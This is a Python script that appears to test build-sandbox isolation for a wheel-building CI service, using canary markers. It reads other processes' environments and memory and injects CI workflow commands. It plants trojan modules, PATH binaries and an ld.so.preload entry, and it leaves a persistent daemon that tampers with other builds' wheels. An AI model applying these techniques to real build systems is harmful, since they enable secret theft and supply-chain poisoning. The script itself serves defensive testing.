"""Ways out of a build. Each attempt returns what it got hold of, and nothing where it failed.

    python attempts.py WHERE
"""

import ctypes
import fcntl
import glob
import json
import os
import re
import signal
import socket
import sys
import threading
import time

MARK = b"-".join([b"canary", b"secret"])  # nothing of this file is to be found
BEATS = "/tmp/canary-beat-"
PLANTED = "/tmp/canary-planted-"
ATTEMPTS = []


def attempt(function):
    ATTEMPTS.append(function)
    return function


def say(where):
    print("canary " + json.dumps({"where": where, "uid": os.getuid(), "got": {f.__name__: f() for f in ATTEMPTS}}), flush=True)


def say_commands():
    """What a CI would obey, if it read it as its own program's."""
    for command in ("::error::canary-command", "##[error]canary-command", "::add-path::/tmp", "\r::warning::canary-command"):
        print(command, flush=True)
        print(command, file=sys.stderr, flush=True)


def read(path, size=1 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(size)
    except (OSError, ValueError):
        return b""


def others():
    mine = {os.getpid(), os.getppid()}
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in mine]


@attempt
def own_environment():
    return [os.fsdecode(name) for name, value in os.environb.items() if MARK in value]


@attempt
def variables_in_processes_of_others():
    """Root's, or the fetching user's: what pyproject.toml sets for builds, as LD_PRELOAD, would run code there."""
    return [path for path in glob.glob("/tmp/canary-loader.*") if os.stat(path).st_uid < 62000]


@attempt
def environment_of_processes():
    return [pid for pid in others() if MARK in read("/proc/%d/environ" % pid)]


@attempt
def memory_of_processes():
    return [pid for pid in others() if any(MARK in part for part in memory(pid))]


def memory(pid):
    for line in read("/proc/%d/maps" % pid).decode().splitlines():
        if not re.search(r"\[(stack|heap)\]$", line):
            continue
        start, end = (int(number, 16) for number in line.split()[0].split("-"))
        try:
            with open("/proc/%d/mem" % pid, "rb", 0) as file:
                file.seek(start)
                yield file.read(end - start)
        except OSError:
            pass


@attempt
def open_files_of_processes():
    found = []
    for pid in others():
        try:
            if os.stat("/proc/%d" % pid).st_uid != os.getuid() or os.getuid() == 0:
                found += [pid] if os.listdir("/proc/%d/fd" % pid) else []
        except OSError:
            pass
    return found


@attempt
def docker_socket():
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(5)
        return [] if client.connect_ex("/var/run/docker.sock") else ["connected"]


@attempt
def file_commands():
    found = []
    for path in glob.glob("/github/file_commands/*") + glob.glob("/github/runner_temp/_runner_file_commands/*"):
        try:
            with open(path, "a") as file:
                file.write("CANARY=canary-was-here\n")
            found.append(path)
        except OSError:
            pass
    return found


@attempt
def git_credentials():
    here = os.path.dirname(os.path.abspath(__file__))
    original = read(os.path.join(here, "original.txt")).decode()  # where this is a copy of
    folders = [here, os.path.dirname(here), original, "/github/workspace", "/github/runner_temp", "/github/home"]
    return [path for folder in folders for path in files_below(folder) if MARK in read(path)]


def files_below(folder):
    for parent, folders, names in os.walk(folder):
        folders[:] = [name for name in folders if name not in {"objects", "dist"}]
        for name in names:
            if os.path.isfile(os.path.join(parent, name)):
                yield os.path.join(parent, name)


@attempt
def workspace():
    return writable(["/github/workspace", "/github/workspace/dist", "/github/workspace/dist/logs"])


@attempt
def what_the_program_runs():
    folders = ["/opt/manywheels", "/etc", "/root", "/usr/lib", *os.environ.get("PATH", "").split(":")]
    for pattern in ("/opt/manywheels/venv/bin", "/opt/manywheels/venv/lib/python*/site-packages",
                    "/opt/manywheels/venv/lib/python*/site-packages/manywheels",
                    "/opt/python/*/bin", "/opt/python/*/lib/python*/site-packages"):
        folders += glob.glob(pattern)
    private = os.environ.get("HOME", "/nonexistent")
    private = private[: -len("/home")] if private.endswith("/home") else private
    return writable(folder for folder in folders if os.path.isdir(folder) and (os.getuid() == 0 or not folder.startswith(private)))


@attempt
def what_others_read():
    folders = ["/var/cache/manywheels"]
    for pattern in ("uv", "prefetched", "prefetched/*", "work", "work/run-*", "work/run-*/sealed", "work/run-*/sealed/*",
                    "work/run-*/tools/bin", "work/run-*/source", "users"):
        folders += glob.glob("/var/cache/manywheels/" + pattern)
    return writable(folder for folder in folders if os.path.isdir(folder))


@attempt
def locks_of_others():
    """Whoever can open a lock's file can hold the lock, and others wait for it."""
    held = []
    for pattern in ("work.lock", "users/%d" % os.getuid(), "users/61999", "users/62000", "users/62001", "users/62002",
                    "prefetched/cache/.lock", "prefetched/cache/wheels-*/*/*/*.lock", "work/run-*/.lock"):
        path = "/var/cache/manywheels/" + pattern
        for path in glob.glob(path) or [path]:
            try:
                file = os.open(path, os.O_RDWR | os.O_CREAT if os.getuid() == 0 else os.O_RDONLY)
                fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
                held.append(path)
            except OSError:
                pass
    return held


def writable(folders):
    found = []
    for folder in folders:
        path = os.path.join(folder, "canary-%d" % os.getpid())
        try:
            os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
            os.unlink(path)
            found.append(folder)
        except OSError:
            pass
    return found


@attempt
def other_processes_of_the_machine():
    found = []
    for pid in others():
        try:
            if os.stat("/proc/%d" % pid).st_uid != os.getuid() or os.getuid() == 0:
                os.kill(pid, 0)
                found.append(pid)
        except OSError:
            pass
    return found


@attempt
def privileges():
    status = dict(line.split(":\t", 1) for line in read("/proc/self/status").decode().splitlines() if ":\t" in line)
    harmless = {"NoNewPrivs": "1", "CapBnd": "0" * 16, "CapEff": "0" * 16, "CapInh": "0" * 16}
    return [name for name, value in harmless.items() if status[name] != value] + status["Groups"].split()


@attempt
def daemons_that_outlived_their_build():
    """Those of earlier builds: their hearts beat in files that all can read."""
    before = {path: os.stat(path).st_mtime_ns for path in glob.glob(BEATS + "*")}
    time.sleep(0.5)
    return [path for path, beat in before.items() if os.stat(path).st_mtime_ns != beat]


@attempt
def what_was_planted_and_others_ran():
    """What earlier builds planted leaves a mark that belongs to whoever ran it. Root, alone, is everybody."""
    return [path for path in glob.glob(PLANTED + "*") if os.stat(path).st_uid != os.getuid() or os.getuid() == 0]


def plant():
    """Put programs and modules wherever somebody may take them for the right ones: PATH, sitecustomize, LD_PRELOAD."""
    home = os.environ.get("HOME", "/nonexistent")
    code = "import os; open('%s' + str(os.getpid()), 'w').close()\n" % PLANTED
    modules = ["/opt/manywheels/venv/lib/python*/site-packages", "/opt/python/*/lib/python*/site-packages"]
    for folder in [path for pattern in modules for path in glob.glob(pattern)] + [os.getcwd(), home, os.environ.get("TMPDIR", "/tmp")]:
        for name in ("sitecustomize.py", "usercustomize.py", "zipfile.py", "auditwheel.py"):
            put(folder, name, code)
    for minor in range(9, 15):
        put(home + "/.local/lib/python3.%d/site-packages" % minor, "usercustomize.py", code)
    for folder in os.environ.get("PATH", "").split(":"):
        for name in ("patchelf", "readelf", "git", "uv", "python3"):
            put(folder, name, "#!/bin/sh\n: > %s$$\nexit 1\n" % PLANTED, replace=os.getuid() != 0)
    if put("/etc", "ld.so.preload", "/nonexistent/canary.so\n"):
        open(PLANTED + "preload", "w").close()


def put(folder, name, content, replace=False):
    path = os.path.join(folder, name)
    try:
        os.makedirs(folder, exist_ok=True)
        with open(path, "w" if replace else "x") as file:
            file.write(content)
        os.chmod(path, 0o755)
        return True
    except OSError:
        return False


def leave_daemon():
    """Leave the session, the group, the parent and their output; hear no signal, and swap wheels for ever.

    One does so in its second thread, after the first has ended: the kernel shows it as a zombie.
    """
    for headless in (False, True):
        if os.fork():
            continue
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        for number in range(3):  # a front end would wait for the end of its output
            os.dup2(os.open(os.devnull, os.O_RDWR), number)
        if headless:
            threading.Thread(target=swap_wheels).start()
            ctypes.CDLL(None).pthread_exit(None)
        swap_wheels()
    time.sleep(0.2)


def swap_wheels():
    while True:
        with open(BEATS + str(os.getpid()), "w") as file:
            file.write("alive")
        for path in glob.glob("/github/workspace/dist/*.whl") + glob.glob("/var/cache/manywheels/work/run-*/sealed/*/*/*.whl"):
            try:
                with open(path, "ab") as file:
                    file.write(b"canary-was-here")
            except OSError:
                pass
        time.sleep(0.02)


if __name__ == "__main__":
    if "--with-daemon" in sys.argv:
        leave_daemon()
        plant()
        os.system("/opt/manywheels/venv/bin/python -c pass")
        os.system("LD_DEBUG=statistics LD_DEBUG_OUTPUT=/tmp/canary-loader /bin/true")
    say(sys.argv[1])
